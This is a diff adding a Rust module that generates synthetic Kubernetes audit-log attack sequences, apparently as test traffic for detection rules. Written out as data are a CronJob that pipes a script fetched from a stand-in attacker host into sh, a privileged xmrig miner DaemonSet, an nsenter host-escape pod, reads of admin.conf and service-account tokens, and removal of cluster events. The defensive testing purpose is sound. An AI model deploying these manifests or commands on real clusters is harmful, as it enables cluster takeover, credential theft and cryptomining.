@@ -1,0 +1,429 @@
+//! Attack steps, injected among the everyday traffic when `Config::attacks` is on. Each scenario is a short
+//! sequence of requests by one actor, seconds apart, drawn from the techniques the built-in rules must
+//! catch. Nothing in an event says it is an attack; the generator tells it on the side.
+
+use std::sync::Arc;
+
+use crate::cluster::{Cluster, Pod, sa_groups, sa_user};
+use crate::event::*;
+use crate::objects;
+use crate::rng::Rand;
+
+/// Where attackers come from (documentation addresses: no real host).
+const ATTACKER_IP: &str = "198.51.100.77";
+const ATTACKER_UA: &str = "kubectl/v1.27.3 (linux/amd64) kubernetes/25b4e43";
+
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub(crate) enum Scenario {
+    StolenToken,
+    RbacEscalation,
+    AnonymousRecon,
+    ForbiddenBurst,
+    TokenTheft,
+    Impersonation,
+    NodeProxy,
+    Persistence,
+    ProductionExec,
+}
+
+pub(crate) const SCENARIOS: [Scenario; 9] = [
+    Scenario::StolenToken,
+    Scenario::RbacEscalation,
+    Scenario::AnonymousRecon,
+    Scenario::ForbiddenBurst,
+    Scenario::TokenTheft,
+    Scenario::Impersonation,
+    Scenario::NodeProxy,
+    Scenario::Persistence,
+    Scenario::ProductionExec,
+];
+
+/// The steps of a scenario in order, each with its delay from the scenario's start.
+struct Plan<'a> {
+    rng: &'a mut Rand,
+    t: i64,
+    steps: Vec<(i64, Req)>,
+}
+
+impl Plan<'_> {
+    /// Waits a human's pause (or a script's, for `ms` ranges below a second).
+    fn wait(&mut self, min_ms: u64, max_ms: u64) {
+        self.t += self.rng.range(min_ms, max_ms) as i64 * 1000;
+    }
+
+    fn push(&mut self, mut req: Req) {
+        req.attack = true;
+        self.steps.push((self.t, req));
+    }
+
+    fn res(&mut self, a: &Actor, verb: &'static str, oref: ObjRef, query: &str) -> Req {
+        Req::resource(self.rng, a, verb, oref, query)
+    }
+}
+
+fn sa_actor(
+    rng: &mut Rand,
+    c: &Cluster,
+    ns: &str,
+    app: &str,
+    ip: Option<&str>,
+    ua: &str,
+    reason: &str,
+) -> Actor {
+    let wl = c
+        .workloads
+        .iter()
+        .find(|w| w.ns == ns && w.app == app)
+        .unwrap_or(&c.workloads[0]);
+    let pod = &wl.pods[0];
+    let user = sa_user(rng, wl.ns, wl.sa, pod, &c.nodes[pod.node].name);
+    Actor::new(user, ip.unwrap_or(&pod.ip), ua, reason)
+}
+
+fn anonymous(ip: &str, ua: &str, reason: &str) -> Actor {
+    Actor::new(
+        User::new("system:anonymous", &["system:unauthenticated"]),
+        ip,
+        ua,
+        reason,
+    )
+}
+
+pub(crate) fn steps(s: Scenario, rng: &mut Rand, c: &mut Cluster) -> Vec<(i64, Req)> {
+    let mut p = Plan {
+        rng,
+        t: 0,
+        steps: Vec::new(),
+    };
+    match s {
+        Scenario::StolenToken => {
+            let reason = "RBAC: allowed by ClusterRoleBinding \"web-frontend-debug\" of ClusterRole \"secret-reader\" to ServiceAccount \"web-frontend/staging\"";
+            let a = sa_actor(
+                p.rng,
+                c,
+                "staging",
+                "web-frontend",
+                Some(ATTACKER_IP),
+                ATTACKER_UA,
+                reason,
+            );
+            let body = r#"{"kind":"SelfSubjectRulesReview","apiVersion":"authorization.k8s.io/v1","metadata":{"creationTimestamp":null},"spec":{"namespace":"staging"},"status":{"resourceRules":null,"nonResourceRules":null,"incomplete":false}}"#;
+            let mut r = p
+                .res(&a, "create", SELFSUBJECTRULESREVIEWS.all(""), "")
+                .with_object(Level::Request, objects::literal(body));
+            r.code = 201;
+            r.reason = "RBAC: allowed by ClusterRoleBinding \"system:basic-user\" of ClusterRole \"system:basic-user\" to Group \"system:authenticated\"".into();
+            p.push(r);
+            p.wait(3_000, 15_000);
+            let r = p.res(&a, "list", SECRETS.all(""), "limit=500");
+            p.push(r);
+            for name in ["payments-api-db", "stripe-api-key"] {
+                p.wait(2_000, 9_000);
+                let r = p.res(&a, "get", SECRETS.at("prod-payments", name, ""), "");
+                p.push(r);
+            }
+            p.wait(1_000, 6_000);
+            let r = p
+                .res(&a, "list", PODS.all("kube-system"), "limit=500")
+                .forbidden();
+            p.push(r);
+        }
+        Scenario::RbacEscalation => {
+            let admin = c.humans[3].clone();
+            let a = Actor {
+                ip: ATTACKER_IP.into(),
+                ua: ATTACKER_UA.into(),
+                ..admin
+            };
+            let subject = "system:serviceaccount:default:default";
+            let body = objects::cluster_role_binding(
+                "default-sa-admin",
+                "cluster-admin",
+                "ServiceAccount",
+                "default",
+                "default",
+            );
+            let mut r = p
+                .res(
+                    &a,
+                    "create",
+                    CLUSTERROLEBINDINGS.at("", "default-sa-admin", ""),
+                    "fieldManager=kubectl-create&fieldValidation=Strict",
+                )
+                .with_object(Level::RequestResponse, body.clone());
+            r.response_object = Some(body);
+            p.push(r);
+            p.wait(20_000, 90_000);
+            let pod = Pod {
+                name: format!("kube-proxy-debug-{}", p.rng.suffix(5)),
+                uid: p.rng.uuid(),
+                node: 0,
+                ip: String::new(),
+            };
+            let node = c.nodes[p.rng.below(c.nodes.len())].name.clone();
+            let mut user = User::new(subject, &[]);
+            user.groups = sa_groups("default");
+            user.uid = Some(p.rng.uuid());
+            let sa = Actor::new(
+                user,
+                ATTACKER_IP,
+                "curl/8.4.0",
+                "RBAC: allowed by ClusterRoleBinding \"default-sa-admin\" of ClusterRole \"cluster-admin\" to ServiceAccount \"default/default\"",
+            );
+            let body = objects::host_pod(
+                &pod.name,
+                "kube-system",
+                &node,
+                "docker.io/library/alpine:3.19",
+                &[
+                    "nsenter", "--target", "1", "--mount", "--uts", "--ipc", "--net", "--pid",
+                    "--", "sleep", "infinity",
+                ],
+            );
+            let r = p
+                .res(&sa, "create", PODS.at("kube-system", &pod.name, ""), "")
+                .with_object(Level::Request, body)
+                .annotate(
+                    "pod-security.kubernetes.io/enforce-policy",
+                    "privileged:latest",
+                );
+            p.push(r);
+            p.wait(5_000, 20_000);
+            let q = format!(
+                "command=cat&command=%2Fhost%2Fetc%2Fkubernetes%2Fadmin.conf&container={}&stderr=true&stdout=true",
+                pod.name
+            );
+            let mut r = p.res(&sa, "create", PODS.at("kube-system", &pod.name, "exec"), &q);
+            r.code = 101;
+            r.latency_us += 900_000;
+            p.push(r);
+        }
+        Scenario::AnonymousRecon => {
+            let ip = "198.51.100.140";
+            let ua = "python-requests/2.31.0";
+            let public = anonymous(ip, ua, &c.anonymous_reason);
+            let r = Req::non_resource(p.rng, &public, "get", "/version");
+            p.push(r);
+            p.wait(300, 2_000);
+            let r = p.res(&public, "list", PODS.all(""), "").forbidden();
+            p.push(r);
+            p.wait(300, 2_000);
+            let r = p
+                .res(&public, "list", SECRETS.all("kube-system"), "")
+                .forbidden();
+            p.push(r);
+            p.wait(300, 2_000);
+            let leaky = anonymous(
+                ip,
+                ua,
+                "RBAC: allowed by RoleBinding \"legacy-anon-read/default\" of ClusterRole \"view\" to User \"system:anonymous\"",
+            );
+            let r = p.res(&leaky, "list", CONFIGMAPS.all("default"), "");
+            p.push(r);
+        }
+        Scenario::ForbiddenBurst => {
+            let a = sa_actor(
+                p.rng,
+                c,
+                "prod-payments",
+                "fraud-scorer",
+                None,
+                "kubectl/v1.30.1 (linux/amd64) kubernetes/6911225",
+                "RBAC: allowed by RoleBinding \"fraud-scorer/prod-payments\" of Role \"fraud-scorer\" to ServiceAccount \"fraud-scorer/prod-payments\"",
+            );
+            let n = p.rng.range(20, 40);
+            let probes: [(&'static str, Res, &str); 8] = [
+                ("list", SECRETS, ""),
+                ("list", SECRETS, "prod-payments"),
+                ("list", PODS, "kube-system"),
+                ("get", CLUSTERROLES, ""),
+                ("list", CLUSTERROLEBINDINGS, ""),
+                ("list", NODES, ""),
+                ("list", DEPLOYMENTS, "production"),
+                ("list", SERVICEACCOUNTS, "kube-system"),
+            ];
+            for i in 0..n {
+                if i > 0 {
+                    p.wait(80, 700);
+                }
+                let (verb, res, ns) = *p.rng.pick(&probes);
+                let oref = if verb == "get" {
+                    res.at(ns, "cluster-admin", "")
+                } else {
+                    res.all(ns)
+                };
+                let r = p.res(&a, verb, oref, "").forbidden();
+                p.push(r);
+            }
+            p.wait(200, 800);
+            let r = p.res(
+                &a,
+                "get",
+                CONFIGMAPS.at("prod-payments", "fraud-scorer-config", ""),
+                "",
+            );
+            p.push(r);
+        }
+        Scenario::TokenTheft => {
+            let a = c.humans[4].clone();
+            let target = "generic-garbage-collector";
+            let body = r#"{"kind":"TokenRequest","apiVersion":"authentication.k8s.io/v1","metadata":{"creationTimestamp":null},"spec":{"audiences":null,"expirationSeconds":31536000,"boundObjectRef":null},"status":{"token":"","expirationTimestamp":null}}"#;
+            let mut r = p
+                .res(
+                    &a,
+                    "create",
+                    SERVICEACCOUNTS.at("kube-system", target, "token"),
+                    "",
+                )
+                .with_object(Level::Request, objects::literal(body));
+            r.code = 201;
+            p.push(r);
+            p.wait(30_000, 120_000);
+            let user = User {
+                name: format!("system:serviceaccount:kube-system:{target}"),
+                uid: Some(p.rng.uuid()),
+                groups: sa_groups("kube-system"),
+                extra: vec![(
+                    "authentication.kubernetes.io/credential-id",
+                    format!("JTI={}", p.rng.uuid()),
+                )],
+            };
+            let stolen = Actor::new(
+                user,
+                ATTACKER_IP,
+                ATTACKER_UA,
+                "RBAC: allowed by ClusterRoleBinding \"system:controller:generic-garbage-collector\" of ClusterRole \"system:controller:generic-garbage-collector\" to ServiceAccount \"generic-garbage-collector/kube-system\"",
+            );
+            let r = p.res(&stolen, "list", SECRETS.all(""), "limit=500");
+            p.push(r);
+            p.wait(2_000, 8_000);
+            let r = p.res(&stolen, "list", CLUSTERROLEBINDINGS.all(""), "limit=500");
+            p.push(r);
+        }
+        Scenario::Impersonation => {
+            let mut a = c.humans[1].clone();
+            a.reason = "".into();
+            let target = Arc::new(User::new(
+                "system:admin",
+                &["system:masters", "system:authenticated"],
+            ));
+            let steps: [(&'static str, ObjRef); 3] = [
+                ("get", SECRETS.at("prod-payments", "payments-api-db", "")),
+                ("list", SECRETS.all("production")),
+                ("get", SECRETS.at("production", "checkout-db", "")),
+            ];
+            for (i, (verb, oref)) in steps.into_iter().enumerate() {
+                if i > 0 {
+                    p.wait(2_000, 20_000);
+                }
+                let mut r = p.res(&a, verb, oref, "");
+                r.impersonated = Some(target.clone());
+                p.push(r);
+            }
+        }
+        Scenario::NodeProxy => {
+            let a = sa_actor(
+                p.rng,
+                c,
+                "monitoring",
+                "grafana",
+                None,
+                "curl/8.4.0",
+                "RBAC: allowed by ClusterRoleBinding \"grafana-node-access\" of ClusterRole \"grafana-nodes\" to ServiceAccount \"grafana/monitoring\"",
+            );
+            let r = p.res(&a, "list", NODES.all(""), "");
+            p.push(r);
+            let node = c.nodes[p.rng.below(c.nodes.len())].name.clone();
+            p.wait(1_000, 5_000);
+            let mut r = p.res(&a, "get", NODES.at("", &node, "proxy"), "");
+            r.uri.push_str("/pods");
+            r.latency_us += 40_000;
+            p.push(r);
+            p.wait(2_000, 10_000);
+            let victim = c
+                .workloads
+                .iter()
+                .find(|w| w.app == "payments-api")
+                .map(|w| w.pods[0].name.clone())
+                .unwrap_or_default();
+            let mut r = p.res(&a, "create", NODES.at("", &node, "proxy"), "");
+            r.code = 200;
+            r.uri.push_str(&format!("/run/prod-payments/{victim}/app?cmd=cat%20%2Fvar%2Frun%2Fsecrets%2Fkubernetes.io%2Fserviceaccount%2Ftoken"));
+            p.push(r);
+        }
+        Scenario::Persistence => {
+            let admin = c.humans[3].clone();
+            let a = Actor {
+                ip: ATTACKER_IP.into(),
+                ua: ATTACKER_UA.into(),
+                ..admin
+            };
+            let cron = r#"{"kind":"CronJob","apiVersion":"batch/v1","metadata":{"name":"etcd-defrag","namespace":"kube-system","creationTimestamp":null},"spec":{"schedule":"*/10 * * * *","jobTemplate":{"metadata":{"creationTimestamp":null},"spec":{"template":{"metadata":{"creationTimestamp":null},"spec":{"containers":[{"name":"etcd-defrag","image":"docker.io/library/alpine:3.19","command":["sh","-c","wget -qO- http://198.51.100.77:8080/s | sh"],"resources":{}}],"restartPolicy":"OnFailure","hostNetwork":true}}}}},"status":{}}"#;
+            let r = p
+                .res(
+                    &a,
+                    "create",
+                    CRONJOBS.at("kube-system", "etcd-defrag", ""),
+                    "",
+                )
+                .with_object(Level::Request, objects::literal(cron));
+            p.push(r);
+            p.wait(10_000, 60_000);
+            let ds = r#"{"kind":"DaemonSet","apiVersion":"apps/v1","metadata":{"name":"node-metrics-agent","namespace":"kube-system","creationTimestamp":null},"spec":{"selector":{"matchLabels":{"app":"node-metrics-agent"}},"template":{"metadata":{"creationTimestamp":null,"labels":{"app":"node-metrics-agent"}},"spec":{"volumes":[{"name":"host","hostPath":{"path":"/","type":""}}],"containers":[{"name":"agent","image":"docker.io/xmrig/xmrig:6.21.0","resources":{},"volumeMounts":[{"name":"host","mountPath":"/host"}],"securityContext":{"privileged":true}}],"hostPID":true,"hostNetwork":true,"tolerations":[{"operator":"Exists"}]}},"updateStrategy":{}},"status":{"currentNumberScheduled":0,"numberMisscheduled":0,"desiredNumberScheduled":0,"numberReady":0}}"#;
+            let r = p
+                .res(
+                    &a,
+                    "create",
+                    DAEMONSETS.at("kube-system", "node-metrics-agent", ""),
+                    "",
+                )
+                .with_object(Level::Request, objects::literal(ds));
+            p.push(r);
+            p.wait(10_000, 60_000);
+            let hook = r#"{"kind":"MutatingWebhookConfiguration","apiVersion":"admissionregistration.k8s.io/v1","metadata":{"name":"pod-policy.example.io","creationTimestamp":null},"webhooks":[{"name":"pod-policy.example.io","clientConfig":{"url":"https://198.51.100.77:8443/mutate"},"rules":[{"operations":["CREATE"],"apiGroups":[""],"apiVersions":["v1"],"resources":["pods"]}],"failurePolicy":"Ignore","sideEffects":"None","admissionReviewVersions":["v1"]}]}"#;
+            let r = p
+                .res(
+                    &a,
+                    "create",
+                    MUTATINGWEBHOOKS.at("", "pod-policy.example.io", ""),
+                    "",
+                )
+                .with_object(Level::Request, objects::literal(hook));
+            p.push(r);
+            p.wait(5_000, 30_000);
+            let r = p.res(&a, "deletecollection", EVENTS.all("kube-system"), "");
+            p.push(r);
+        }
+        Scenario::ProductionExec => {
+            let mut a = c.humans[2].clone();
+            a.reason = "RBAC: allowed by RoleBinding \"payments-oncall/prod-payments\" of ClusterRole \"edit\" to Group \"oidc:payments\"".into();
+            let r = p.res(&a, "list", PODS.all("prod-payments"), "limit=500");
+            p.push(r);
+            let victim = c
+                .workloads
+                .iter()
+                .find(|w| w.app == "payments-api")
+                .map(|w| w.pods[0].name.clone())
+                .unwrap_or_default();
+            p.wait(3_000, 15_000);
+            let mut r = p.res(
+                &a,
+                "create",
+                PODS.at("prod-payments", &victim, "exec"),
+                "command=env&container=app&stderr=true&stdout=true",
+            );
+            r.code = 101;
+            r.latency_us += 400_000;
+            p.push(r);
+            p.wait(5_000, 40_000);
+            let r = p.res(
+                &a,
+                "get",
+                SECRETS.at("prod-payments", "stripe-api-key", ""),
+                "",
+            );
+            p.push(r);
+        }
+    }
+    p.steps
+}
